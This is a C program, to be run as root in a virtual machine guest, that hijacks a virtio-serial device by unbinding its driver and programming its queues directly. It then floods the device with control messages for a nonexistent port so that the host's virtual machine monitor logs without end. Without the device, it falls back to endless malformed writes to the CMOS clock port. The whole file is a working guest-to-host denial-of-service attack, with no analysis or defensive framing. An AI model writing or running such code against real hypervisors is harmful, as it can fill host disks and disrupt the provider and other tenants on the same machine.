// Run by root in a guest: makes its VMM write to its own log continuously. It first waits until its caller has the
// response. Then it unbinds the virtio-serial driver and sends control messages about ports that do not exist. Without
// such a device, it writes two bytes at once to the clock, which accepts one.
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/io.h>
#include <sys/mman.h>
#include <unistd.h>

enum { PAGE = 4096, CONTROL_OUT = 3, COMMON = 1, NOTIFY = 2, MESSAGES = 16, NO_PORT = 0xdead, PORT_READY = 3, DELAY_S = 3, PATIENCE = 1 << 28 };

struct region { volatile uint8_t *at; uint32_t multiplier; };

static char device[300];

static _Noreturn void fail(const char *what) {
  perror(what);
  exit(1);
}

static int open_file(const char *name, int flags) {
  char path[600];
  snprintf(path, sizeof path, "%s/%s", device, name);
  return open(path, flags);
}

static unsigned read_number(const char *name) {
  char text[32] = "";
  int file = open_file(name, O_RDONLY);
  if (file < 0 || read(file, text, sizeof text - 1) < 0) fail(name);
  close(file);
  return strtoul(text, NULL, 16);
}

static int find_device(void) {
  DIR *devices = opendir("/sys/bus/pci/devices");
  for (struct dirent *entry; devices && (entry = readdir(devices));) {
    if (entry->d_name[0] == '.') continue;
    snprintf(device, sizeof device, "/sys/bus/pci/devices/%s", entry->d_name);
    unsigned id = read_number("device");
    if (read_number("vendor") == 0x1af4 && (id == 0x1003 || id == 0x1043)) return 1;
  }
  return 0;
}

static void take_device(void) {
  const char *name = strrchr(device, '/') + 1;
  int driver = open_file("driver/unbind", O_WRONLY);
  if (driver >= 0 && write(driver, name, strlen(name)) < 0) fail("unbind");
  int enable = open_file("enable", O_WRONLY);
  if (enable < 0 || write(enable, "1", 1) < 0) fail("enable");
  // Memory access and bus mastering.
  uint16_t command;
  int config = open_file("config", O_RDWR);
  if (pread(config, &command, 2, 4) != 2) fail("config");
  command |= 6;
  if (pwrite(config, &command, 2, 4) != 2) fail("config");
  close(config);
}

static struct region map_region(int wanted) {
  uint8_t config[256];
  int file = open_file("config", O_RDONLY);
  if (read(file, config, sizeof config) < (ssize_t)sizeof config) fail("config");
  close(file);
  for (unsigned at = config[0x34]; at != 0; at = config[at + 1]) {
    if (config[at] != 0x09 || config[at + 3] != wanted) continue;
    uint32_t offset, length, multiplier;
    memcpy(&offset, config + at + 8, 4), memcpy(&length, config + at + 12, 4), memcpy(&multiplier, config + at + 16, 4);
    char name[16];
    snprintf(name, sizeof name, "resource%d", config[at + 4]);
    int bar = open_file(name, O_RDWR);
    if (bar < 0) fail(name);
    uint8_t *base = mmap(NULL, offset + length, PROT_READ | PROT_WRITE, MAP_SHARED, bar, 0);
    if (base == MAP_FAILED) fail(name);
    return (struct region){base + offset, multiplier};
  }
  fail("find a capability");
}

static uint64_t physical(const volatile void *address) {
  uint64_t entry;
  int file = open("/proc/self/pagemap", O_RDONLY);
  if (pread(file, &entry, 8, (uintptr_t)address / PAGE * 8) != 8) fail("pagemap");
  close(file);
  return (entry & ((1ULL << 55) - 1)) * PAGE + (uintptr_t)address % PAGE;
}

static void *page(void) {
  void *at = mmap(NULL, PAGE, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_LOCKED | MAP_POPULATE, -1, 0);
  if (at == MAP_FAILED) fail("memory");
  memset(at, 0, PAGE);
  return at;
}

#define REGISTER(type, offset) (*(volatile type *)(common.at + (offset)))

static void flood_port(void) {
  struct region common = map_region(COMMON), notify = map_region(NOTIFY);
  struct { uint64_t address; uint32_t length; uint16_t flags, next; } *descriptors = page();
  volatile uint16_t *available = page(), *used = page();
  struct { uint32_t port; uint16_t event, value; } *message = page();
  *message = (typeof(*message)){NO_PORT, PORT_READY, 1};
  REGISTER(uint8_t, 20) = 0;
  while (REGISTER(uint8_t, 20) != 0) continue;
  REGISTER(uint8_t, 20) = 3;
  // Multiple ports, and VIRTIO_F_VERSION_1, which is required.
  REGISTER(uint32_t, 8) = 0, REGISTER(uint32_t, 12) = 2;
  REGISTER(uint32_t, 8) = 1, REGISTER(uint32_t, 12) = 1;
  REGISTER(uint8_t, 20) = 11;
  REGISTER(uint16_t, 22) = CONTROL_OUT;
  REGISTER(uint16_t, 24) = MESSAGES;
  REGISTER(uint64_t, 32) = physical(descriptors);
  REGISTER(uint64_t, 40) = physical(available);
  REGISTER(uint64_t, 48) = physical(used);
  uint16_t notify_at = REGISTER(uint16_t, 30);
  REGISTER(uint16_t, 28) = 1;
  REGISTER(uint8_t, 20) = 15;
  for (int i = 0; i < MESSAGES; i++) {
    descriptors[i].address = physical(message), descriptors[i].length = sizeof *message;
    available[2 + i] = i;
  }
  for (;;) {
    available[1] += MESSAGES;
    __sync_synchronize();
    *(volatile uint16_t *)(notify.at + notify_at * notify.multiplier) = CONTROL_OUT;
    // The kernel may move a page, and then the device does not find it: start again.
    for (unsigned long looks = 0; used[1] != available[1]; looks++) {
      if (looks == PATIENCE) return;
      __sync_synchronize();
    }
  }
}

int main(void) {
  sleep(DELAY_S);
  if (find_device()) {
    take_device();
    for (;;) flood_port();
  }
  if (iopl(3) < 0) fail("iopl");
  for (;;) outw(0, 0x70);
}
